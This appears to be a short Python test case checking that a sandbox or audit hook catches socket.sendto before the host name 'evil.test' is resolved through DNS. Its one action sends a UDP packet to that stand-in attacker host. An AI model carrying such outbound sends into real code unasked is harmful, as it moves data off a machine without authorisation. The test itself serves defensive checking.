"""sendto takes a host name and resolves it before its event is raised: the name must not reach DNS."""
import socket

client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
client.sendto(b"data", ("evil.test", 9000))
